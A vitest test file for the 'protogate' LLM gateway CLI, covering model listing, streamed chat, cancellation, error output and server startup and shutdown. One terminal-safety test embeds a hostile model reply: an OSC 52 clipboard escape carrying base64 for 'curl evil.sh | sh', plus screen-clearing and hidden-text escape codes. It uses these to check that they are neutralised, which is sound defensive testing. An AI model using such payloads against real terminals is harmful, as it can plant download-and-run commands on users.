import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RunningGateway } from "../../server/gateway.js";
import type { OpenAiFake } from "../helpers/fake-upstream/index.js";
import { sendRaw } from "../helpers/raw-http.js";
import { runProcess, startProcess } from "../helpers/run-process.js";
import { type LlamaAndOllamaGateway, startLlamaAndOllamaGateway } from "../helpers/start-test-gateway.js";

const toolArguments = String.raw`{"10":1,"2":1.0,"n":12345678901234567890,"s":"é😀\"\\n"}`;

/** Runs `node bin/protogate.js …args` to completion. */
function protogate(args: readonly string[]) {
  return runProcess(process.execPath, ["bin/protogate.js", ...args], { timeoutMs: 30_000 });
}

// Each test starts a Node process that compiles the CLI as it loads (bin/typescript-hooks.js): seconds each on a busy machine.
describe("the protogate CLI", { timeout: 60_000 }, () => {
  let setup: LlamaAndOllamaGateway;
  let llama: OpenAiFake;
  let gateway: RunningGateway;
  let scratch: string;

  beforeAll(async () => {
    scratch = mkdtempSync(join(tmpdir(), "protogate-cli-"));
    setup = await startLlamaAndOllamaGateway({ models: [{ name: "llama3.2:1b", capabilities: ["completion", "tools"], loaded: true }] });
    ({ llama, gateway } = setup);
  });

  afterAll(async () => {
    await setup.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  it("models prints a table of every model", async () => {
    const result = await protogate(["models", "--url", gateway.url]);
    expect([result.code, result.stderr]).toEqual([0, ""]);
    expect(result.stdout.split("\n")).toEqual([
      "MODEL        BACKEND   STATE   CONTEXT  CAPABILITIES",
      "qwen.gguf    llamacpp  loaded  4096     -",
      "llama3.2:1b  ollama    loaded  131072   tools,structuredOutput",
      "",
    ]);
  });

  it.each(["connect", "grpc", "grpc-web"])("chat streams the answer and shows the tool call over %s", async (protocol) => {
    llama.enqueue({ kind: "reply", content: "Let me look that up.", toolCalls: [{ id: "call_cli", name: "lookup", argumentsText: toolArguments }] });
    const chatsBefore = llama.requests.filter((request) => request.path === "/v1/chat/completions").length;

    const result = await protogate(["chat", "qwen.gguf", "What", "is", "2+2?", "--url", gateway.url, "--protocol", protocol]);

    expect([result.code, result.stderr]).toEqual([0, ""]);
    const lines = result.stdout.split("\n");
    expect(lines.slice(0, 3)).toEqual(["Let me look that up.", `[tool call lookup id=call_cli] ${toolArguments}`, ""]);
    expect(lines[3]).toMatch(/^\[tool_calls; 10 in \/ \d+ out; first token \d+ ms, total \d+ ms\]$/);
    expect(lines.slice(4)).toEqual([""]);
    // The CLI shows the tool call; it never runs it (no second request with a tool result).
    const chats = llama.requests.filter((request) => request.path === "/v1/chat/completions");
    expect(chats.length).toBe(chatsBefore + 1);
    expect((chats.at(-1)?.body as { messages: unknown }).messages).toEqual([{ role: "user", content: "What is 2+2?" }]);
  });

  it("chat shows what the model wrote without letting it drive the terminal", async () => {
    const hostile = "Done.\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\rSafe";
    llama.enqueue({ kind: "reply", content: hostile, toolCalls: [{ id: "call_\u001b[1m", name: "look\u001b[8mup", argumentsText: "{}" }] });
    const result = await protogate(["chat", "qwen.gguf", "hi", "--url", gateway.url]);
    expect([result.code, result.stderr]).toEqual([0, ""]);
    expect(result.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    const lines = result.stdout.split("\n");
    expect(lines.slice(0, 2)).toEqual([
      "Done.\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007\\u001b[2JSafe",
      "[tool call look\\u001b[8mup id=call_\\u001b[1m] {}",
    ]);
  });

  it("Ctrl-C during chat cancels the stream and stops the generation upstream", async () => {
    llama.enqueue({ kind: "hang", afterChunks: 2, content: "partial" });
    const chat = startProcess(process.execPath, ["bin/protogate.js", "chat", "qwen.gguf", "Tell me a story", "--url", gateway.url], { timeoutMs: 30_000 });
    await chat.waitForStdout(/part/);
    chat.child.kill("SIGINT");
    await llama.waitForAbort();
    const result = await chat.exited;
    expect(result).toMatchObject({ code: 130, signal: null, stdout: "part", stderr: "" });
  });

  it("chat that fails on the backend's side names the request to look up in the gateway's log", async () => {
    llama.enqueue({ kind: "http-error", status: 500 });
    const result = await protogate(["chat", "qwen.gguf", "hi", "--url", gateway.url]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^protogate: \[internal\] .+ \(request [0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12} in the gateway's log\)\n$/);
  });

  it("chat with an unknown model prints the error and exits 1", async () => {
    const result = await protogate(["chat", "qwen-typo", "hi", "--url", gateway.url]);
    expect(result).toMatchObject({
      code: 1,
      stdout: "",
      stderr: 'protogate: [not_found] model "qwen-typo" not found; available: qwen.gguf, llama3.2:1b\n',
    });
  });

  it("serve prints the listening line, serves, and exits 0 on SIGTERM", async () => {
    const serve = startProcess(process.execPath, ["bin/protogate.js", "serve", "--port", "0", "--backend", `openai=${llama.url}`], { timeoutMs: 30_000 });
    try {
      const [, url] = await serve.waitForStdout(/^protogate listening on (http:\/\/127\.0\.0\.1:\d+) \(1 backend\(s\), 1 model\(s\)\)$/m);
      const response = await fetch(`${url}/protogate.v1.ModelService/ListModels?encoding=json&message=%7B%7D`, { signal: AbortSignal.timeout(10_000) });
      expect(response.status).toBe(200);
      expect(((await response.json()) as { models: Array<{ id: string; backend: string }> }).models.map((model) => [model.id, model.backend])).toEqual([
        ["qwen.gguf", "openai"],
      ]);
    } finally {
      serve.child.kill("SIGTERM");
    }
    const result = await serve.exited;
    expect({ code: result.code, signal: result.signal }).toEqual({ code: 0, signal: null });
    expect(result.stderr).toContain('"msg":"signal received, shutting down","signal":"SIGTERM"');
    expect(result.stderr).toContain('"msg":"stopped"');
    expect(result.stdout).not.toContain("reachable from other machines");
  });

  it("serve keeps serving, and shuts down with exit 0, after the reader of its stderr went away", async () => {
    const serve = startProcess(process.execPath, ["bin/protogate.js", "serve", "--port", "0", "--backend", `openai=${llama.url}`], { timeoutMs: 30_000 });
    try {
      const [, url] = await serve.waitForStdout(/^protogate listening on (http:\/\/127\.0\.0\.1:\d+) /m);
      // Closing our end of the pipe: the gateway's next write to stderr fails with EPIPE.
      serve.child.stderr?.destroy();
      for (let i = 0; i < 3; i++) {
        const response = await fetch(`${url}/protogate.v1.ModelService/ListModels?encoding=json&message=%7B%7D`, { signal: AbortSignal.timeout(10_000) });
        expect(response.status).toBe(200);
      }
    } finally {
      // The shutdown's own log lines ("signal received", "draining", "stopped") go to the closed pipe.
      serve.child.kill("SIGTERM");
    }
    const result = await serve.exited;
    expect({ code: result.code, signal: result.signal }).toEqual({ code: 0, signal: null });
  });

  it("serve on every interface says that it is reachable from other machines without client authentication, and answers --allow-host names", async () => {
    const args = ["bin/protogate.js", "serve", "--host", "0.0.0.0", "--port", "0", "--backend", `openai=${llama.url}`, "--allow-host", "my-box.lan"];
    const serve = startProcess(process.execPath, args, { timeoutMs: 30_000 });
    try {
      const [, port] = await serve.waitForStdout(/^protogate listening on http:\/\/0\.0\.0\.0:(\d+) /m);
      await serve.waitForStdout(/^note: 0\.0\.0\.0 is reachable from other machines, and protogate has no client authentication yet/m);
      const listModels = (host: string) =>
        sendRaw(`http://127.0.0.1:${port}`, { method: "GET", path: "/protogate.v1.ModelService/ListModels?encoding=json&message=%7B%7D", headers: { host } });
      expect((await listModels(`my-box.lan:${port}`)).status).toBe(200);
      expect((await listModels(`other-box.lan:${port}`)).status).toBe(403);
    } finally {
      serve.child.kill("SIGTERM");
    }
    expect((await serve.exited).code).toBe(0);
  });

  it("serve with a bad --backend prints a clear error and exits 1", async () => {
    const result = await protogate(["serve", "--port", "0", "--backend", "llamacpp=http://127.0.0.1:8080"]);
    expect(result).toMatchObject({
      code: 1,
      stdout: "",
      stderr: 'protogate: --backend must be KIND=URL with KIND openai or ollama, got "llamacpp=http://127.0.0.1:8080"\n',
    });
  });

  it("serve with a bad config file prints the field path and exits 1", async () => {
    const path = join(scratch, "protogate.yaml");
    writeFileSync(path, ["listen:", "  port: 0", "backends:", "  - id: Local_LLM", "    kind: BACKEND_KIND_OPENAI", `    url: ${llama.url}`, ""].join("\n"));
    const result = await protogate(["serve", "--config", path]);
    expect(result).toMatchObject({
      code: 1,
      stdout: "",
      stderr: `protogate: ${path}:\n  backends[0].id: does not match regex pattern \`^[a-z][a-z0-9_-]{0,31}$\` [string.pattern]\n`,
    });
  });
});
